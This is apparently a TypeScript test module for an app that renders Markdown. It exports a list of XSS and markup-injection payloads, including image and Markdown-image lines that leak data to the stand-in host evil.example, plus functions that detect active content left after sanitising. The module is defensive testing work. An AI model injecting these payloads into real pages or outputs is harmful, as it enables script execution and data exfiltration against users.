/** Hostile inputs, each a way model output or a document could try to run code or leak data. */
export const XSS_PAYLOADS: string[] = [
  '<script>window.__xss = 1</script>',
  '<img src=x onerror="window.__xss = 1">',
  '<svg onload="window.__xss = 1"></svg>',
  '<svg><script>window.__xss = 1</script></svg>',
  '<a href="javascript:window.__xss = 1">click</a>',
  '<a href="JaVaScRiPt:window.__xss = 1">click</a>',
  '<a href="&#106;avascript:window.__xss = 1">entity-encoded</a>',
  '<a href=" java\tscript:window.__xss = 1">whitespace</a>',
  '<a href="vbscript:msgbox(1)">vbscript</a>',
  '<a href="data:text/html,<script>window.__xss = 1</script>">data html</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data base64</a>',
  '<iframe src="https://evil.example/"></iframe>',
  '<iframe srcdoc="<script>window.__xss = 1</script>"></iframe>',
  '<object data="javascript:window.__xss = 1"></object>',
  '<embed src="javascript:window.__xss = 1">',
  '<div style="background:url(javascript:window.__xss=1)">styled</div>',
  '<div style="width: expression(window.__xss = 1)">expression</div>',
  '<style>body { background: url("javascript:window.__xss=1") }</style>',
  '<form action="javascript:window.__xss = 1"><button>go</button></form>',
  '<button formaction="javascript:window.__xss = 1">go</button>',
  '<meta http-equiv="refresh" content="0;url=javascript:window.__xss = 1">',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss = 1">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<svg><p><style><img src=x onerror="window.__xss = 1"></style></p></svg>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__xss = 1">',
  '<img src="https://evil.example/leak?secret=1">',
  '![leak](https://evil.example/leak.png?data=secret)',
  '![protocol-relative](//evil.example/a.png)',
  '[click me](javascript:window.__xss=1)',
  '[data link](data:text/html,<script>window.__xss=1</script>)',
  '[ref][x]\n\n[x]: javascript:window.__xss=1',
  '<javascript:window.__xss=1>',
  '<details open ontoggle="window.__xss = 1">x</details>',
  '<body onload="window.__xss = 1">',
  '<input autofocus onfocus="window.__xss = 1">',
  '<video><source onerror="window.__xss = 1"></video>',
  '<a href="https://ok.example/" target="_blank" onclick="window.__xss = 1">ok</a>',
  '<img srcset="https://evil.example/x.png 1x" src="x">',
  '<base href="https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<svg><a xlink:href="javascript:window.__xss=1"><text>x</text></a></svg>',
  '<template><script>window.__xss = 1</script></template>',
  '<img src="data:image/svg+xml,<svg onload=window.__xss=1>">',
  '<p id="root" name="root" class="notice-error passage-view">clobber and borrow styles</p>',
  '<a href="https://ok.example/" style="position:fixed;inset:0">overlay</a>',
  '```html\n<script>window.__xss = 1</script>\n```',
  '<scr<script>ipt>window.__xss = 1</scr</script>ipt>',
  '<isindex type=image src=1 onerror="window.__xss = 1">',
  '"><img src=x onerror=window.__xss=1>',
  '<a href="https://evil.example/" ping="https://evil.example/ping">ping</a>',
];

const ACTIVE_TAGS = [
  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'base', 'link', 'meta', 'style',
  'form', 'input', 'textarea', 'select', 'svg', 'math', 'template', 'video', 'audio', 'source', 'noscript',
  'isindex', 'portal', 'body', 'html',
];
const FORBIDDEN_ATTRS = ['style', 'srcdoc', 'formaction', 'action', 'srcset', 'background', 'poster', 'ping', 'target', 'id', 'name', 'xlink:href'];

/** Everything found in `root` that could run code, navigate, load from elsewhere or restyle the app. */
export function activeContent(root: ParentNode, origin = location.origin): string[] {
  const problems: string[] = [];
  for (const tag of ACTIVE_TAGS) {
    if (root.querySelector(tag)) problems.push(`<${tag}> element`);
  }
  for (const el of Array.from(root.querySelectorAll('*'))) {
    if (el.tagName === 'BUTTON' && !el.classList.contains('citation')) problems.push('<button> from the input');
    for (const attr of Array.from(el.attributes)) {
      const name = attr.name.toLowerCase();
      if (name.startsWith('on')) problems.push(`${name} on <${el.tagName.toLowerCase()}>`);
      if (FORBIDDEN_ATTRS.includes(name)) problems.push(`${name} attribute on <${el.tagName.toLowerCase()}>`);
      if (name === 'class' && attr.value.split(/\s+/).some((c) => c && !/^(hljs|language-|citation|removed-image)/.test(c))) {
        problems.push(`class "${attr.value}"`);
      }
    }
    const href = el.getAttribute('href');
    if (href !== null && !/^(https?:\/\/|mailto:)/i.test(href.trim())) problems.push(`href ${href}`);
    if (el.tagName === 'A' && href !== null && el.getAttribute('rel') !== 'noopener noreferrer') problems.push('link without rel');
    const src = el.getAttribute('src');
    if (src !== null) {
      const ok =
        /^data:image\/(png|gif|jpeg|webp|avif|bmp);/i.test(src) ||
        /^blob:/i.test(src) ||
        (() => {
          try {
            return new URL(src, location.href).origin === origin && !src.trim().startsWith('//');
          } catch {
            return false;
          }
        })();
      if (!ok || el.tagName !== 'IMG') problems.push(`src ${src} on <${el.tagName.toLowerCase()}>`);
    }
  }
  return problems;
}

/**
 * The app's own element structure around hostile text (tags and attribute names, not values),
 * with each sanitised Markdown region's content left out: rendering hostile text as text must give
 * the same structure as rendering harmless text.
 */
export function shape(root: Element): string {
  const walk = (el: Element): string => {
    const attrs = Array.from(el.attributes).map((a) => a.name).sort().join(',');
    const inner = el.classList.contains('markdown') ? 'MARKDOWN' : Array.from(el.children).map(walk).join('');
    return `<${el.tagName.toLowerCase()} ${attrs}>${inner}</>`;
  };
  return walk(root);
}

/** activeContent for every sanitised Markdown region under root. */
export function activeMarkdown(root: Element): string[] {
  return Array.from(root.querySelectorAll('.markdown')).flatMap((md) => activeContent(md));
}
